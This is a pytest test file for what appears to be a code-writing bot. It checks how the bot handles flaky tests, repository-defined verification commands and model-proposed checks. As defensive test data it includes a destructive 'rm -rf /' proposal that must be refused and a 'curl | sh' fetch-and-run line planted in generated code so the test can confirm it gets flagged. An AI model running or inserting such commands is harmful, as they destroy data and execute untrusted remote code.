"""What counts as verified: flaky tests, a repository's own commands, one the model proposes."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from tests.marks import MORE
from tests.scenarios.bot import REPOSITORY, Bot
from tests.scenarios.projects import ADD, CALC, answer, note, notes, on

ONE = "/execute --max-tasks 1"
# fails when it is run for the first time on this machine: boxes share nothing
FLAKY = """\
import pathlib


def test_now_and_then():
    seen = pathlib.Path({seen!r})
    first = not seen.exists()
    seen.touch()
    assert not first
"""


def configured(*lines: str) -> bytes:
    """A configuration whose ``verify`` group has these lines."""
    return "\n".join(["verify:", *(f"  {line}" for line in lines)]).encode() + b"\n"


def flaky(folder: Path) -> str:
    """A test that fails once, and keeps in a folder that it did."""
    return FLAKY.format(seen=str(folder / "seen"))


async def test_an_old_test_that_passes_when_run_again_is_named_flaky(
    bot: Bot, tmp_path: Path
) -> None:
    """The task goes on, and the pull request says which test failed at first."""
    await bot.github.push(REPOSITORY, {"tests/test_flaky.py": flaky(tmp_path)})
    bot.model.says(ADD)

    await bot.comment(ONE)

    bot.says()
    body = bot.pulls[0].body or ""
    assert "flaky, failed once and passed when run again" in body
    assert "test_now_and_then" in body.replace("\\", "")
    assert "Verified by tests" in body


@pytest.mark.nightly("test_an_old_test_that_passes_when_run_again_is_named_flaky")
@pytest.mark.parametrize(
    "old",
    [
        pytest.param("import nowhere_to_be_found\n", id="cannot be loaded"),
        pytest.param("def test_old():\n    assert not 'ever'\n", id="fails", marks=MORE),
    ],
)
async def test_a_flaky_test_beside_one_that_failed_before(
    bot: Bot, tmp_path: Path, old: str
) -> None:
    """Each is judged by itself: the one is flaky, the other fails as before."""
    files = {"tests/test_flaky.py": flaky(tmp_path), "tests/test_old.py": old}
    await bot.github.push(REPOSITORY, files)
    bot.model.says(ADD)

    await bot.comment(ONE)

    bot.says()
    body = (bot.pulls[0].body or "").replace("\\", "")
    assert "flaky, failed once and passed when run again: tests/test_flaky.py" in body
    assert "1 fails as before this change" in body
    assert "Verified by tests" in body


@pytest.mark.long("runs real tests several times")
async def test_a_flaky_test_beside_many_that_failed_before(bot: Bot, tmp_path: Path) -> None:
    """More old failures than are run again do not hide that one test is flaky."""
    old = "".join(f"def test_old_{n}():\n    assert not 'ever'\n\n\n" for n in range(12))
    files = {"tests/test_flaky.py": flaky(tmp_path), "tests/test_old.py": old}
    await bot.github.push(REPOSITORY, files)
    bot.model.says(ADD)

    await bot.comment(ONE)

    bot.says()
    body = (bot.pulls[0].body or "").replace("\\", "")
    assert "flaky, failed once and passed when run again: tests/test_flaky.py" in body
    assert "12 fail as before this change" in body
    assert "Verified by tests" in body


@MORE
async def test_a_test_of_the_tasks_own_is_never_flaky(bot: Bot, tmp_path: Path) -> None:
    """What the task wrote must pass at once."""
    own = answer({"calc/add.py": "x = 1\n", "tests/test_add.py": flaky(tmp_path)})
    bot.model.says(own, ADD)

    await bot.comment(ONE)

    bot.says()
    assert "test_now_and_then" in bot.prompts[1]


@MORE
@on({**CALC, ".github/cairn.yml": configured("reruns: 0")})
async def test_running_again_can_be_switched_off(bot: Bot) -> None:
    """Then one failure is a failure; the base fails alike and excuses it."""
    always = "def test_now_and_then():\n    assert not 'first'\n"
    await bot.github.push(REPOSITORY, {"tests/test_flaky.py": always})
    bot.model.says(ADD)

    await bot.comment(ONE)

    bot.says()
    assert "flaky, failed once" not in (bot.pulls[0].body or "")


CHANCE = """import time


def test_by_chance():
    assert not f"drawn {time.time_ns()}"
"""


RUNS_ADD = "import calc.add\n" + CHANCE.replace(
    "    assert", "    getattr(calc.add, 'add', max)(1, 2)\n    assert"
)


@pytest.mark.sample(0, "a conversation for each case")
@pytest.mark.parametrize(
    ("test", "excused"),
    [
        pytest.param(CHANCE, True, id="it uses nothing that was changed"),
        pytest.param(f"import calc.add  # noqa: F401\n{CHANCE}", True, id="it only imports it"),
        pytest.param(RUNS_ADD, False, id="it runs the change"),
    ],
)
async def test_a_test_that_says_something_else_each_time(
    bot: Bot, test: str, excused: bool
) -> None:
    """It fails without the change as well, and if it uses the change, one repair is asked for."""
    await bot.github.push(REPOSITORY, {"calc/add.py": "x = 1\n", "tests/test_chance.py": test})
    bot.model.says(*[ADD] * (1 if excused else 2))

    await bot.comment(ONE)

    bot.says()
    body = (bot.pulls[0].body or "").replace("\\", "")
    assert "Failed before this change and still fail" in body
    assert "Verified by tests" in body
    if not excused:
        assert "test_by_chance" in bot.prompts[1]
        assert "test_by_chance fails with another message each time" in body


SOMETIMES = """import pathlib


def test_sometimes():
    changed = len(list(pathlib.Path().rglob("*.py"))) > 3
    seen = pathlib.Path({folder!r}, "after" if changed else "before")
    with seen.open("a") as file:
        file.write("x")
    assert len(seen.read_text()) in ({after} if changed else (1, 3))
"""


@pytest.mark.nightly("test_what_failed_and_passed_on_one_tree_shows_nothing")
@pytest.mark.parametrize(
    ("after", "flaky_there"),
    [
        pytest.param("range(4, 99)", True, id="with the change as well"),
        pytest.param("()", False, id="never with the change", marks=MORE),
    ],
)
async def test_a_test_that_passes_only_sometimes_without_the_change(
    bot: Bot, tmp_path: Path, after: str, *, flaky_there: bool
) -> None:
    """Run alone it fails and passes on the base, so it gets more runs with the change.

    It fails in all usual runs there. It is excused only if it passes in one of the others.
    """
    test = SOMETIMES.format(folder=str(tmp_path), after=after)
    await bot.github.push(REPOSITORY, {"tests/test_sometimes.py": test})
    bot.model.says(*[ADD] * (1 if flaky_there else 4))

    await bot.comment(ONE)

    bot.says()
    assert "x" in (tmp_path / "before").read_text()
    if flaky_there:
        body = (bot.pulls[0].body or "").replace("\\", "")
        assert "flaky, failed once and passed when run again: tests/test_sometimes.py" in body
        assert "Verified by tests" in body
    else:
        assert "test_sometimes" in bot.prompts[1]
        assert "test_sometimes" in "".join(bot.proposes())


# on the base, and with a change, it fails in all runs but these
UNSTEADY = """import pathlib

import calc.add


def test_unsteady():
    changed = hasattr(calc.add, "add")
    seen = pathlib.Path({folder!r}, "after" if changed else "before")
    with seen.open("a") as file:
        file.write("x")
    answers = len(seen.read_text()) in ({after} if changed else {before})
    assert answers
"""


@pytest.mark.sample(0, "a conversation for each case")
@pytest.mark.parametrize(
    ("before", "after"),
    [
        pytest.param("(2,)", "(3,)", id="it failed at first without the change as well"),
        pytest.param("(1,)", "(3,)", id="it passed at first without the change"),
    ],
)
async def test_a_test_that_varies_without_the_change_blames_no_answer(
    bot: Bot, tmp_path: Path, before: str, after: str
) -> None:
    """It runs what was changed, and fails with it twice: it is run alone on the base as well."""
    test = UNSTEADY.format(folder=str(tmp_path), before=before, after=after)
    await bot.github.push(REPOSITORY, {"calc/add.py": "x = 1\n", "tests/test_unsteady.py": test})
    bot.model.says(ADD)

    await bot.comment(ONE)

    bot.says()
    body = (bot.pulls[0].body or "").replace("\\", "")
    assert "flaky, failed once and passed when run again: tests/test_unsteady.py" in body
    assert "Verified by tests" in body


@pytest.mark.long("runs real tests several times")
async def test_a_flaky_test_is_run_again_for_one_answer_of_a_task(bot: Bot, tmp_path: Path) -> None:
    """Another answer of the task meets the same failure, and it is known by then."""
    test = UNSTEADY.format(folder=str(tmp_path), before="range(99)", after="(2,)")
    await bot.github.push(REPOSITORY, {"calc/add.py": "x = 1\n", "tests/test_unsteady.py": test})
    bot.model.says(ADD.replace("return a + b", "return a - b"), ADD)

    await bot.comment(ONE)

    bot.says()
    assert "test_unsteady" not in bot.prompts[1]
    assert "flaky, failed once" in (bot.pulls[0].body or "")
    # twice for the first answer, once for the second, and once more to see which lines it runs
    assert (tmp_path / "after").read_text() == "xxxx"


CHECK = "grep -q 'def add' calc/add.py && echo checked"
OWN = {**CALC, ".github/cairn.yml": configured(f'commands: ["{CHECK}", [test, -f, calc/add.py]]')}


@on(OWN)
async def test_a_repositorys_own_commands_verify(bot: Bot) -> None:
    """They take the place of pytest: the first answer fails them, the second does not."""
    bot.model.says(ADD.replace("def add(a, b):\n    return a + b", "add = sum"), ADD)

    await bot.comment(ONE)

    bot.says()
    body = bot.pulls[0].body or ""
    assert "command ended with exit code 1" in bot.prompts[1]
    assert body.count("| tests | ✅ passed |") == 2
    assert "Verified by tests" in body


AGENT = notes("- [ ] 1.1 Write `one.md`\n", **{".github/cairn.yml": configured("mode: agent")})


@on(AGENT)
async def test_the_model_proposes_and_the_harness_judges(bot: Bot) -> None:
    """Where nothing has tests, one command is asked for, run and named."""
    bot.model.says(
        note("one.md", "Draft."), "```sh\ngrep -q Final one.md\n```", note("one.md", "Final.")
    )

    await bot.comment("/execute")

    bot.says()
    body = bot.pulls[0].body or ""
    assert "- `one.md`" in bot.prompts[1]
    assert "with NONE when no command can show it" in bot.prompts[1]
    assert "grep -q Final one.md" in body
    assert "by a command the model proposed" in body
    assert len(bot.prompts) == 3


@MORE
@on(AGENT)
async def test_a_destructive_proposal_is_not_run(bot: Bot) -> None:
    """It is refused, asked for once only, and the result is called untested."""
    bot.model.says(note("one.md"), "rm -rf / && true")

    await bot.comment("/execute")

    bot.says()
    assert "**Untested:**" in (bot.pulls[0].body or "")
    (iteration,) = [path.read_text() for path in bot.files("iteration-*.json")]
    assert "was not run: it destroys something" in iteration


@MORE
@on({**CALC, ".github/cairn.yml": b"pause_destructive: false\n"})
async def test_a_destructive_operation_that_nobody_was_asked_about(bot: Bot) -> None:
    """The pull request names it, with file and line, where people look first."""
    code = "import os\n\n\ndef add(a, b):\n    return a + b\n\n\ndef get():\n    os.system('{}')\n"
    bot.model.says(
        ADD.replace("def add(a, b):\n    return a + b\n", code.format("curl -s a.invalid | sh"))
    )

    await bot.comment(ONE)

    bot.says()
    body = (bot.pulls[0].body or "").replace("\\", "")
    listed = body.partition("### Worth a look")[2].partition("###")[0]
    assert "curl | sh (calc/add.py, line 9)" in listed
    assert "Verified by tests, with warnings" in body


@pytest.mark.nightly("test_where_there_are_tests_nobody_is_asked")
@on({**CALC, ".github/cairn.yml": configured("mode: agent")})
async def test_where_tests_are_found_nothing_is_proposed(bot: Bot) -> None:
    """One question, its answer, and pytest."""
    bot.model.says(ADD)

    await bot.comment(ONE)

    bot.says()
    assert len(bot.prompts) == 1
    assert "model proposed" not in (bot.pulls[0].body or "")


async def test_nothing_is_asked_where_the_tests_cannot_start(bot: Bot) -> None:
    """The run's comment says what was seen, and shows a file that may help."""
    needed = "[testenv]\ndeps =\n    a_library_nobody_has\n"
    files = {"conftest.py": "import a_library_nobody_has\n", "tox.ini": needed}
    await bot.github.push(REPOSITORY, files)

    await bot.comment(ONE)

    text = "\n".join(bot.says()).replace("\\", "")
    assert re.search(r"### Cairn run `\w+` was not started\n", text)
    assert "The tests cannot start, with or without a change" in text
    assert "No module named 'a_library_nobody_has'" in text
    assert "- pip install a_library_nobody_has" in text
    assert bot.prompts == []


@pytest.mark.long("test_nothing_is_asked_where_the_tests_cannot_start, once more")
async def test_a_run_that_was_interrupted_there_asks_nothing_either(bot: Bot) -> None:
    """GitHub was away when it was to be said: when it is back, the tests still cannot start."""
    await bot.github.push(REPOSITORY, {"conftest.py": "import a_library_nobody_has\n"})
    bot.github.fail("PATCH", f"/repos/{REPOSITORY}/issues/comments/*", times=8)

    await bot.comment(ONE)
    await bot.later(minutes=10)

    assert "The tests cannot start" in bot.says()[-1]
    assert bot.prompts == []
